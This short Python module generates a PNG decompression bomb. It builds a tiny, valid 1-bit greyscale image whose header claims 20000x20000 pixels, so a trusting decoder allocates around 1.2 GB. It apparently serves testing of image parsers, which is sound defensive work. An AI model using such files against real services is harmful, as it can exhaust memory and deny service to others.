"""A decompression bomb: a valid PNG of a few kB whose header says it is huge.

Bit depth 1, greyscale, every row zero: zlib squeezes the rows to almost nothing, and a decoder that
trusts the header allocates width x height x 3 bytes (1.2 GB for 20000x20000) before it finds out.
"""

from __future__ import annotations

import struct
import zlib


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    row = b"\x00" + bytes((width + 7) // 8)  # filter byte + one bit per pixel
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale, no interlace
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
